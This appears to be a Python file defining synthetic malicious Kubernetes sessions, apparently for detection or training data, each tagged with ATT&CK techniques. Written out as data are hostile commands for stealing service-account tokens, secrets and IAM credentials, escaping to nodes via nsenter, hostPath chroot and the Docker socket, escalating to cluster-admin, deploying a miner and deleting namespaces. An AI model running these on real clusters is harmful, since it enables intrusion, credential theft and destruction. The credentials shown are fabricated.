"""Malicious sessions on Kubernetes: interactive exec shells and API request sessions."""

import json

from dsl import B, c, k, kapi, kexec, kp, kpod, kreq, p, wait, typo
from snips import aws_key, b64, chars, hexs, sa_token

TOKEN = sa_token("payments", "payments-api", "pay-sa")
AK, SK = aws_key("node-role")

CRONJOB = "/apis/batch/v1/namespaces/kube-system/cronjobs"

SCENARIOS = [
    kpod("k8s-pod-sa-token-api-secrets", "sam.okafor@prod-eu-1", "payments/payments-api-7d9f8b6c4-x2k9p/api",
         style="ash", login="root", image="registry.acme-corp.example/payments/api:2.31.0",
         T="T1609 T1528 T1613 T1552.007",
         risk="HIGH-CRITICAL",
         desc="Inside an application pod, reads the service-account token and uses it against the API server to list secrets",
         steps=[
             c("id", "uid=0(root) gid=0(root) groups=0(root),1(bin),2(daemon),3(sys),4(adm),6(disk),10(wheel),11(floppy),20(dialout),26(tape),27(video)"),
             c(typo("ls /var/run/secrets/kubernetes.io/serviceaccount/", 20, "kuber"), "ca.crt     namespace  token"),
             k("cat /var/run/secrets/kubernetes.io/serviceaccount/token", TOKEN, noout_newline=True),
             k("TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"),
             kp('curl -sk -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api/v1/namespaces/payments/secrets | grep -E \'"name"|password|secret_key\'', f"""
                   "name": "payments-db-credentials",
                     "password": "{b64(chars('payments-db', 24))}",
                   "name": "stripe-api",
                     "secret_key": "{b64('sk_live_' + chars('stripe-live', 40))}","""),
             c('curl -sk -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets | head -6', """
                {
                  "kind": "Status",
                  "apiVersion": "v1",
                  "metadata": {},
                  "status": "Failure",
                  "message": "secrets is forbidden: User \\"system:serviceaccount:payments:payments-api\\" cannot list resource \\"secrets\\" in API group \\"\\" in the namespace \\"kube-system\\"","""),
         ]),

    kapi("k8s-api-secrets-sweep", "tom.becker@prod-eu-1",
         T="T1613 T1552.007",
         risk="HIGH-CRITICAL",
         desc="Checks its permissions, lists secrets in every namespace and reads database, registry and cloud credentials",
         steps=[
             kreq("create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", 201),
             kreq("list", "/api/v1/namespaces"),
             kreq("list", "/api/v1/secrets", key=True),
             kreq("get", "/api/v1/namespaces/payments/secrets/payments-db-credentials", key=True),
             kreq("get", "/api/v1/namespaces/shop/secrets/shop-mysql", key=True),
             kreq("get", "/api/v1/namespaces/ci/secrets/regcred", key=True),
             kreq("get", "/api/v1/namespaces/kube-system/secrets/aws-cloud-credentials", key=True),
             kreq("get", "/api/v1/namespaces/monitoring/secrets/grafana-admin"),
         ], kube_groups=["platform-admins", "system:authenticated"]),

    kapi("k8s-privileged-pod-nsenter", "ivan.petrov@prod-eu-1",
         T="T1610 T1611 T1609 T1003.008",
         risk="CRITICAL",
         desc="Creates a privileged hostPID pod on a chosen node and uses nsenter into PID 1 to run commands on the node",
         default_pod="default/node-debug-x7/shell", images={"shell": "docker.io/library/alpine:3.19"},
         steps=[
             kreq("list", "/api/v1/nodes"),
             kreq("create", "/api/v1/namespaces/default/pods", 201, key=True),
             kreq("get", "/api/v1/namespaces/default/pods/node-debug-x7"),
             kexec("nsenter -t 1 -m -u -i -n -p -- id", key=True),
             kexec("nsenter -t 1 -m -u -i -n -p -- cat /etc/shadow", key=True),
             kexec("nsenter -t 1 -m -u -i -n -p -- cat /var/lib/kubelet/kubeconfig", key=True),
             kexec("nsenter -t 1 -m -u -i -n -p -- crictl ps -q"),
         ]),

    kapi("k8s-cronjob-persistence", "dev.patel@prod-eu-1",
         T="T1053.007 T1610 T1036.005",
         risk="HIGH-CRITICAL",
         desc="Creates a CronJob in kube-system named like a system component that runs a downloaded script every 15 minutes",
         steps=[
             kreq("list", CRONJOB),
             kreq("create", CRONJOB, 201, key=True),
             kreq("get", CRONJOB + "/kube-proxy-cleanup"),
             kreq("list", "/apis/batch/v1/namespaces/kube-system/jobs"),
         ]),

    kapi("k8s-clusterrolebinding-escalation", "grace.kim@prod-eu-1",
         T="T1098.006 T1528 T1550.001",
         risk="CRITICAL",
         desc="Binds cluster-admin to a service account it controls and mints a long-lived token for it, then uses the token",
         steps=[
             kreq("list", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings"),
             kreq("create", "/api/v1/namespaces/kube-system/serviceaccounts", 201, key=True),
             kreq("create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", 201, key=True),
             kreq("create", "/api/v1/namespaces/kube-system/serviceaccounts/metrics-reader-sa/token", 201, key=True),
             kreq("list", "/api/v1/secrets"),
             kreq("list", "/api/v1/nodes"),
         ], kube_groups=["developers", "rbac-editors", "system:authenticated"]),

    kapi("k8s-exec-lateral-credentials", "uma.iyer@prod-eu-1",
         T="T1609 T1552.001 T1613",
         risk="HIGH-CRITICAL",
         desc="Lists pods across namespaces and execs into the API, Redis and Postgres pods to read their credentials",
         default_pod="payments/payments-api-7d9f8b6c4-x2k9p/api",
         steps=[
             kreq("list", "/api/v1/pods"),
             kexec("env", key=True),
             kexec("cat /app/config/production.yaml", key=True),
             kexec("redis-cli CONFIG GET requirepass", pod="shop/redis-master-0/redis", key=True),
             kexec("sh -c 'cat $PGDATA/../.pgpass; env | grep -i pass'", pod="shop/postgres-0/postgres", key=True),
         ]),

    kapi("k8s-miner-daemonset", "victor.ruiz@prod-eu-1",
         T="T1610 T1496.001 T1036.005",
         risk="CRITICAL",
         desc="Deploys a DaemonSet named like a kube-proxy helper that runs a cryptominer on every node",
         steps=[
             kreq("list", "/apis/apps/v1/namespaces/kube-system/daemonsets"),
             kreq("create", "/apis/apps/v1/namespaces/kube-system/daemonsets", 201, key=True),
             kreq("get", "/apis/apps/v1/namespaces/kube-system/daemonsets/kube-proxy-helper"),
             kreq("list", "/api/v1/namespaces/kube-system/pods?labelSelector=app%3Dkube-proxy-helper"),
         ]),

    kapi("k8s-namespace-destruction", "alice.chen@prod-eu-1",
         T="T1485 T1489",
         risk="CRITICAL",
         desc="Deletes the production namespaces and the persistent volumes behind them",
         steps=[
             kreq("list", "/api/v1/namespaces"),
             kreq("delete", "/api/v1/namespaces/payments", key=True),
             kreq("delete", "/api/v1/namespaces/shop", key=True),
             kreq("list", "/api/v1/persistentvolumes"),
             kreq("delete", "/api/v1/persistentvolumes/pvc-4c1f0a9e-2d77-4b8e-9a61-5f0c3e7d1b22", key=True),
             kreq("delete", "/api/v1/persistentvolumes/pvc-9b3e2c1d-7a55-4f10-8c2e-1d0f6a4b9e73", key=True),
         ]),

    kpod("k8s-hostpath-chroot-escape", "hiro.tanaka@prod-eu-1", "default/debug-tools-5f7c/debug",
         style="ash", login="root", image="docker.io/library/busybox:1.36",
         T="T1609 T1611 T1552.001",
         risk="CRITICAL",
         desc="In a pod with the node's root filesystem mounted at /host, chroots into it and reads the kubelet and admin credentials",
         steps=[
             c("mount | grep /host", "/dev/nvme0n1p1 on /host type ext4 (rw,relatime,discard,errors=remount-ro)"),
             k("chroot /host /bin/bash", "", push=dict(user="root", cwd="/", style="plain", exit_out="exit")),
             c("cat /etc/hostname", "ip-10-42-7-118"),
             k("cat /var/lib/kubelet/kubeconfig", f"""
                 apiVersion: v1
                 clusters:
                 - cluster:
                     certificate-authority: /etc/kubernetes/pki/ca.crt
                     server: https://10.40.0.10:6443
                   name: default-cluster
                 contexts:
                 - context:
                     cluster: default-cluster
                     namespace: default
                     user: default-auth
                   name: default-context
                 current-context: default-context
                 kind: Config
                 users:
                 - name: default-auth
                   user:
                     client-certificate: /var/lib/kubelet/pki/kubelet-client-current.pem
                     client-key: /var/lib/kubelet/pki/kubelet-client-current.pem"""),
             k("ls /etc/kubernetes/ && cat /etc/kubernetes/admin.conf | grep client-key-data", "admin.conf  kubelet.conf  manifests  pki\n    client-key-data: " + b64(chars("admin-key", 90))),
         ]),

    kpod("k8s-pod-imds-node-role", "kevin.obrien@prod-eu-1", "shop/shop-web-6c9d7f5b8-q4wzt/web",
         style="dash", login="www-data", image="registry.acme-corp.example/shop/web:4.12.0", home="/var/www",
         T="T1609 T1552.005",
         risk="HIGH-CRITICAL",
         desc="From a web pod, queries the cloud metadata service and steals the node's IAM role credentials",
         steps=[
             c("curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/", "eks-node-role-prod", noout_newline=True),
             kp("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/eks-node-role-prod", f"""
                 {{
                   "Code" : "Success",
                   "LastUpdated" : "2025-03-18T22:01:14Z",
                   "Type" : "AWS-HMAC",
                   "AccessKeyId" : "ASIA{AK[4:]}",
                   "SecretAccessKey" : "{SK}",
                   "Token" : "IQoJb3JpZ2luX2VjEKn//////////wEaCWV1LXdlc3QtMSJ{chars('nodetok', 100)}",
                   "Expiration" : "2025-03-19T04:29:51Z"
                 }}"""),
         ]),

    kapi("k8s-exec-shadow-environ", "nina.kowalski@prod-eu-1",
         T="T1609 T1003.008 T1552.001",
         risk="HIGH-CRITICAL",
         desc="Runs one-off kubectl exec commands to read /etc/shadow and the main process's environment from a pod",
         default_pod="billing/billing-worker-58d6c7b9f-2mvnb/worker",
         steps=[
             kreq("get", "/api/v1/namespaces/billing/pods/billing-worker-58d6c7b9f-2mvnb"),
             kexec("id"),
             kexec("cat /etc/shadow", key=True),
             kexec("cat /proc/1/environ", key=True),
         ]),

    kapi("k8s-etcd-direct-secrets", "li.wei@prod-eu-1",
         T="T1609 T1552.007",
         risk="CRITICAL",
         desc="Execs into the etcd static pod and reads secrets straight from the etcd keyspace, bypassing API audit",
         default_pod="kube-system/etcd-k8s-cp-01/etcd", images={"etcd": "registry.k8s.io/etcd:3.5.12-0"},
         steps=[
             kexec("etcdctl --endpoints=https://127.0.0.1:2379 --cacert=/etc/kubernetes/pki/etcd/ca.crt --cert=/etc/kubernetes/pki/etcd/server.crt --key=/etc/kubernetes/pki/etcd/server.key get /registry/secrets --prefix --keys-only", key=True),
             kexec("etcdctl --endpoints=https://127.0.0.1:2379 --cacert=/etc/kubernetes/pki/etcd/ca.crt --cert=/etc/kubernetes/pki/etcd/server.crt --key=/etc/kubernetes/pki/etcd/server.key get /registry/secrets/payments/payments-db-credentials", key=True),
         ], kube_groups=["system:masters"]),

    kpod("k8s-ci-pod-docker-sock", "erin.walsh@prod-eu-1", "ci/gitlab-runner-7b6d9c-k2lqf/build",
         style="plain", login="root", image="registry.acme-corp.example/ci/docker-builder:24.0",
         T="T1609 T1610 T1611 T1059.013",
         risk="CRITICAL",
         desc="In a CI build pod with the node's Docker socket mounted, starts a privileged container with the host root and reads node secrets",
         steps=[
             c("ls -l /var/run/docker.sock", "srw-rw---- 1 root 998 0 Mar 17 06:02 /var/run/docker.sock"),
             c("docker ps --format '{{.Names}}' | head -3", "k8s_api_payments-api-7d9f8b6c4-x2k9p_payments_7c1e\nk8s_POD_payments-api-7d9f8b6c4-x2k9p_payments_7c1e\nk8s_worker_billing-worker-58d6c7b9f-2mvnb_billing_91a2"),
             kp("docker run --rm --privileged --net=host --pid=host -v /:/h alpine:3.19 chroot /h sh -c 'hostname; cat /etc/kubernetes/kubelet.conf | grep server; ls /var/lib/kubelet/pods | wc -l'",
                "ip-10-42-7-118\n    server: https://10.40.0.10:6443\n38"),
         ]),
]
